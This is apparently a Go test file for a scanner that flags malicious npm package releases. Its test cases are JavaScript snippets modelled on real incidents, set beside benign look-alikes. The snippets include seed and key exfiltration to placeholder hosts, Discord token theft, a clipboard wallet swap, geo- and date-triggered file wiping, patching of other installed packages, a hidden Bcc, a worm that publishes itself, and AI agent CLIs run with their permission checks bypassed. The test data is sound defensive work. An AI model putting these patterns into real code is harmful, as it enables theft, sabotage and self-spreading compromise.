package signals

import (
	"strings"
	"testing"
)

// Techniques from real incidents, each with variations of its surface and
// with the legitimate code that looks most like it. Every case is a small
// readable library (ctBase) whose release adds the lines shown; a case is
// named after the technique, never after one package.

// ttWith is ctBase with index.js extended and other files added.
func ttWith(index []string, files map[string]string) map[string]string {
	out := ctAppend(index...)
	for k, v := range files {
		out[k] = v
	}
	return out
}

// ttManifest is a manifest with extra fields (keywords, scripts…).
func ttManifest(extra string) string {
	return `{"name":"fx","version":"1.0.1","repository":"github:fx/fx"` + extra + `}`
}

func TestTechniques(t *testing.T) {
	rotation := "var a=['Z2V0','c2V0'];(function(b,c){var d=function(e){for(;--e;){b['push'](b['shift']());}};d(++c);}(a,0x1a3));"
	var calls strings.Builder
	for _, m := range []string{"charAt", "indexOf", "fromCharCode", "charCodeAt", "apply", "then", "clone", "text", "addEventListener",
		"replace", "split", "join", "slice"} {
		calls.WriteString("q['" + m + "'](r);")
	}
	var reserved strings.Builder
	for i := 0; i < 14; i++ {
		reserved.WriteString("p['catch'](f);")
	}
	for _, tt := range []struct {
		name     string
		old, new map[string]string
		high     bool
		id       string // a high signal with this id, when high and set
		medium   string // a medium signal with this id, when not high and set
		quiet    bool   // the risk stays below medium
	}{
		// String-table obfuscation without _0x names (javascript-obfuscator
		// with mangled identifiers), injected into a load-time file.
		{name: "string table rotation with mangled names", new: ctAppend(ctMarker + rotation), high: true, id: ObfuscatedCode},
		{name: "method calls through quoted names", new: ctAppend(calls.String()), high: true, id: ObfuscatedCode},
		{name: "reserved words in brackets are ES3 code, not a disguise", quiet: true, new: ctAppend(reserved.String())},
		{name: "a queue rotated with dot calls", quiet: true, new: ctAppend("queue.push(queue.shift());")},

		// Key material written into a request to a host (xrpl, @solana/web3.js).
		{name: "seed in a request header", high: true, new: ctAppend(
			"function checkValidityOfSeed(seed) {",
			"  fetch('https://0x9c.example.invalid/xc', {",
			"    method: 'POST',",
			"    headers: { 'ad-referral': seed },",
			"  }).catch(() => {});",
			"}")},
		{name: "mnemonic in a request body", high: true, new: ctAppend(
			"axios.post('https://api.wallet-sync.invalid/v1', { phrase: wallet.mnemonic });")},
		{name: "private key in a request body built just before", high: true, new: ctAppend(
			"function report(kp) {",
			"  const payload = { k: Array.from(kp.privateKey), t: Date.now() };",
			"  void fetch('https://telemetry.wallet-tools.invalid/c', { method: 'POST', body: JSON.stringify(payload) });",
			"}")},
		{name: "a random generator's seed before a fetch", quiet: true, new: ctAppend(
			"const rngSeed = opts.seed ?? Date.now();",
			"seed(db);",
			"const res = await fetch('https://api.example.com/items');")},
		{name: "seeded query parameter is not a seed", new: ctAppend("fetch('/api/items?reseeded=1').then((r) => r.json());")},

		// Wallet calls next to a network read, in a package that is not about wallets (lottie-player).
		{name: "wallet transaction request and a fetch", high: true, new: ctAppend(
			"async function q() {",
			"  const cfg = await fetch('https://cdn.anim-assets.invalid/c').then((r) => r.json());",
			"  await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: cfg.to }] });",
			"}")},
		{name: "wallet provider's request method overwritten", high: true, id: WalletHook, new: ctAppend(
			"if (window.ethereum) {",
			"  const orig = window.ethereum.request.bind(window.ethereum);",
			"  window.ethereum.request = async (a) => orig(swap(a));",
			"}")},
		{name: "wallet library wrapping its provider", old: ctWith(map[string]string{"package.json": ttManifest(`,"keywords":["ethereum"]`)}),
			new: ttWith([]string{"if (window.ethereum) { const o = window.ethereum.request; window.ethereum.request = (a) => log(a) || o(a); }"},
				map[string]string{"package.json": ttManifest(`,"keywords":["ethereum"]`)})},
		{name: "wallet library detecting a provider", old: ctWith(map[string]string{"package.json": ttManifest(`,"keywords":["web3","wallet"]`)}),
			new: ttWith([]string{
				"function getProvider() { return typeof window !== 'undefined' && window.ethereum; }",
				"async function connect() { return getProvider().request({ method: 'eth_requestAccounts' }); }"},
				map[string]string{"package.json": ttManifest(`,"keywords":["web3","wallet"]`)})},

		// Destruction behind a country or date check (node-ipc, protestware time bombs).
		{name: "file overwrite behind a country check", high: true, id: Persistence, new: ctAppend(
			"function walk(d) { for (const n of fs.readdirSync(d)) { const f = path.join(d, n);",
			"  if (fs.statSync(f).isDirectory()) walk(f); else fs.writeFileSync(f, '\\u2764'); } }",
			"https.get(geoURL, (res) => { res.on('data', (b) => {",
			"  const c = JSON.parse(b).country_name.toLowerCase();",
			"  if (c.includes('russia') || c.includes('belarus')) walk('../');",
			"}); });")},
		{name: "country list compared with includes", high: true, new: ctAppend(
			"geo().then((c) => { if (['russia', 'belarus'].includes(c.country)) fs.writeFileSync(target, '');});")},
		{name: "file overwrite behind an encoded country check", high: true, new: ctAppend(
			"const c = Buffer.from('Y291bnRyeV9uYW1l', 'base64');",
			"const e = Buffer.from('cnVzc2lh', 'base64');",
			"const n = Buffer.from('4p2k77iP', 'base64');",
			"function h(d) { for (const f of fs.readdirSync(d)) fs.writeFileSync(path.join(d, f), n.toString('utf8')); }",
			"get(url, (t) => t.on('data', (b) => {",
			"  const u = JSON.parse(b)[c.toString('utf8')].toLowerCase();",
			"  if (u.includes(e.toString('utf8'))) h('./');",
			"}));")},
		{name: "country from a geolocation service compared", high: true, new: ctAppend(
			"const geo = await (await fetch('https://ipapi.co/json/')).json();",
			"if (geo.country_code === 'IL') fs.rmSync(dir, { recursive: true, force: true });")},
		{name: "rows filtered by country and written", quiet: true, new: ctAppend(
			"const rows = require('./src.json').filter((r) => r.country !== 'Antarctica');",
			"fs.writeFileSync(out, JSON.stringify(rows));")},
		{name: "removal behind a fixed date", high: true, id: Persistence, new: ctAppend(
			"if (Date.now() > Date.parse('2026-03-01')) {",
			"  for (const f of fs.readdirSync('.')) fs.rmSync(f, { recursive: true, force: true });",
			"}")},
		{name: "unlink behind a year comparison", high: true, new: ctAppend(
			"const d = new Date();",
			"if (d.getFullYear() >= 2027) files.forEach((f) => fs.unlinkSync(f));")},
		{name: "removal behind a time zone check", high: true, new: ctAppend(
			"const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;",
			"if (tz === 'Europe/Moscow') fs.rmSync(dir, { recursive: true });")},
		{name: "removal of the working folder", high: true, id: Persistence, new: ctAppend(
			"fs.rmSync(process.cwd(), { recursive: true, force: true });")},
		{name: "deprecation warning behind a date", quiet: true, new: ctAppend(
			"if (Date.now() > Date.parse('2026-06-01')) process.emitWarning('fx 1.x is deprecated');")},
		{name: "files older than a format change removed", quiet: true, new: ctAppend(
			"if (fs.statSync(f).mtimeMs < Date.parse('2024-06-01')) fs.unlinkSync(f);")},
		{name: "cache expiry removes a cache file", new: ctAppend(
			"if (Date.now() - fs.statSync(cacheFile).mtimeMs > 86400000) fs.unlinkSync(cacheFile);")},
		{name: "clean removes a build folder", new: ctAppend(
			"fs.rmSync(path.join(process.cwd(), 'dist'), { recursive: true, force: true });")},
		{name: "locale table next to a write", new: ctAppend(
			"const names = { RU: 'Russia', BY: 'Belarus', UA: 'Ukraine' };",
			"fs.writeFileSync(out, JSON.stringify(names));")},

		// Writing into another installed package (ethers patchers).
		{name: "write into a package found with require.resolve", high: true, id: Persistence, new: ctAppend(
			"const target = require.resolve('ethers/lib.commonjs/wallet/wallet.js');",
			"let src = fs.readFileSync(target, 'utf8');",
			"fs.writeFileSync(target, src.replace('constructor(key) {', 'constructor(key) { leak(key);'));")},
		{name: "write into a node_modules path", high: true, new: ctAppend(
			"const t = path.join(process.cwd(), 'node_modules', 'ethers', 'lib', 'wallet.js');",
			"if (fs.existsSync(t)) fs.writeFileSync(t, tpl);")},
		{name: "inline node_modules path in a write", high: true, new: ctAppend(
			"fs.appendFileSync(path.join(root, 'node_modules/web3/index.js'), hook);")},
		{name: "tool cache under node_modules", quiet: true, new: ctAppend(
			"const p = path.join(process.cwd(), 'node_modules', '.cache', 'fx', key);",
			"fs.writeFileSync(p, value);")},
		{name: "own folder under node_modules", quiet: true, new: ctAppend(
			"const p = path.join(process.cwd(), 'node_modules', 'fx', 'bin', 'fx.exe');",
			"fs.writeFileSync(p, binary);")},
		{name: "reading another package is not writing it", new: ctAppend(
			"const tpl = fs.readFileSync(require.resolve('fx-templates/page.html'), 'utf8');",
			"fs.writeFileSync(out, render(tpl));")},

		// A package's own file run through a Windows system binary (eslint-config-prettier 2025).
		{name: "rundll32 on a bundled file", high: true, id: DynamicCode, new: ctAppend(
			"const { spawn } = require('child_process');",
			"spawn('rundll32', [path.join(__dirname, 'assets', 'x.dat') + ',main'], { detached: true });")},
		{name: "regsvr32 on a bundled library", high: true, new: ctAppend(
			"require('child_process').execSync('regsvr32 /s \"' + path.join(__dirname, 'lib.ocx') + '\"');")},
		{name: "rundll32 url.dll opens a URL", new: ctAppend(
			"const { spawn } = require('child_process');",
			"spawn('rundll32', ['url.dll,FileProtocolHandler', url]);")},

		// A hard-coded hidden recipient added to outgoing mail (postmark-mcp).
		{name: "hard-coded Bcc in a send call", high: true, id: NewEndpoint, new: ctAppend(
			"client.sendEmail({", "  From: from,", "  To: to,", "  Bcc: 'phan@giftshop.invalid',", "  Subject: subject,", "});")},
		{name: "minified bcc field", high: true, new: ctAppend(`t.sendMail({from:e,to:n,bcc:"copy@mail-archive.invalid",subject:r});`)},
		{name: "bcc header set to an address", high: true, new: ctAppend(`msg.setHeader('Bcc', 'x@collect.invalid');`)},
		{name: "bcc as a custom header", high: true, new: ctAppend(
			"client.sendEmail({ To: to, Headers: [{ Name: 'Bcc', Value: 'inbox@relay.invalid' }] });")},
		{name: "bcc from the caller's options", new: ctAppend("if (opts.bcc) headers.Bcc = opts.bcc;", "const m = { bcc: opts.bcc || [] };")},
		{name: "bcc to a reserved example domain", new: ctAppend("const defaults = { bcc: 'archive@example.com' };")},
		{name: "bcc in a test fixture", new: ctWith(map[string]string{
			"test/mail.test.js": "expect(build({ bcc: 'audit@acme.invalid' }).Bcc).toBe('audit@acme.invalid');\n"})},

		// Clipboard contents replaced when they look like a wallet address.
		{name: "clipboard write next to an address pattern", high: true, id: WalletHook, new: ctAppend(
			"document.addEventListener('copy', (e) => {",
			"  const s = getSelection().toString();",
			"  if (/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/.test(s)) e.clipboardData.setData('text/plain', ADDR);",
			"});")},
		{name: "copy button", new: ctAppend("button.onclick = () => navigator.clipboard.writeText(code.textContent);")},

		// Session stores of Discord, Slack or a browser read and sent.
		{name: "Local Storage leveldb read and a request", high: true, id: CredentialAccess, new: ctAppend(
			"const p = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');",
			"const toks = fs.readdirSync(p).map((f) => fs.readFileSync(path.join(p, f), 'utf8'));",
			"https.request({ hostname: 'collect.invalid', method: 'POST' }).end(JSON.stringify(toks));")},

		// A capability pushed past the edge of the screen on a long line
		// injected into a readable file (rand-user-agent, chalk/debug).
		{name: "process spawn on an injected long line", high: true, id: ProcessSpawn, new: ctAppend(
			"module.exports.v = 2;" + strings.Repeat(" ", 1500) + "require('child_process').exec(String(globalThis.__c));")},
		{name: "long table line and a spawn elsewhere", new: ctAppend(
			"const WORDS = ["+strings.Repeat("'alpha', 'bravo', 'charlie', 'delta', ", 40)+"];",
			"const { execFile } = require('child_process');",
			"execFile('git', ['rev-parse', 'HEAD']);")},

		// Install-time files: a link in a printed notice is not an address
		// the code talks to.
		{name: "install script prints a new link", quiet: true, old: ctWith(map[string]string{
			"package.json": ttManifest(`,"scripts":{"postinstall":"node notice.js"}`),
			"notice.js":    "console.log('Thanks for installing fx');\n"}),
			new: ctWith(map[string]string{
				"package.json": ttManifest(`,"scripts":{"postinstall":"node notice.js"}`),
				"notice.js":    "if (!process.env.CI) console.log('fx collects anonymous telemetry. Opt out: https://fx-telemetry.invalid/opt-out');\n"})},

		// AI agent command lines with their permission checks off, in any
		// of the agents' spellings (nx s1ngularity).
		{name: "agent permission mode bypass", high: true, id: Persistence, new: ctAppend(
			"require('child_process').execSync(`claude -p \"${prompt}\" --permission-mode bypassPermissions`);")},
		{name: "agent sandbox bypass", high: true, new: ctAppend(
			"spawn('codex', ['exec', '--dangerously-bypass-approvals-and-sandbox', prompt]);")},

		// Publishing through the registry API instead of the npm CLI (worms).
		{name: "package document put to the registry", high: true, id: SelfPropagation, new: ctAppend(
			"const doc = { name, versions: { [v]: meta }, _attachments: { [name + '-' + v + '.tgz']: { data: tgz.toString('base64') } } };",
			"https.request({ hostname: 'registry.npmjs.org', path: '/' + name, method: 'PUT' }).end(JSON.stringify(doc));")},
		{name: "attachments of a local document", new: ctAppend("const files = Object.keys(doc._attachments || {});")},

		// A script element pointed at a new host loads code no diff shows.
		{name: "script loaded from a new host", medium: NewEndpoint, new: ctAppend(
			"var s = document.createElement('script'); s.src = 'https://player-cdn.invalid/v2/loader.js'; document.head.appendChild(s);")},
		{name: "link to a new host in a message", quiet: true, new: ctAppend("console.warn('see https://docs.new-site.invalid/migrate');")},

		// Code fetched with an HTTP client module and compiled.
		{name: "HTTP client response compiled with new Function", high: true, id: DynamicCode, new: ctAppend(
			"const a = require('axios');",
			"a.get(u).then((r) => new Function('require', r.data)(require));")},
		{name: "template compiled with new Function", new: ctAppend(
			"const render = new Function('data', 'return `' + template + '`');")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			old := tt.old
			if old == nil {
				old = ctBase
			}
			r := assess(t, old, tt.new)
			if got := r.Risk.Level == RiskHigh; got != tt.high {
				t.Fatalf("risk %s, want high=%v; signals %+v", r.Risk.Level, tt.high, r.Signals)
			}
			if !tt.high && tt.medium != "" {
				for _, s := range r.Signals {
					if s.ID == tt.medium && s.Severity == Medium {
						return
					}
				}
				t.Errorf("no medium %s: %+v", tt.medium, r.Signals)
			}
			if tt.quiet && r.Risk.Level == RiskMedium {
				t.Errorf("risk medium: %+v", r.Signals)
			}
			if tt.high && tt.id != "" {
				for _, s := range r.Signals {
					if s.ID == tt.id && s.Severity == High {
						return
					}
				}
				t.Errorf("no high %s: %+v", tt.id, r.Signals)
			}
		})
	}
}
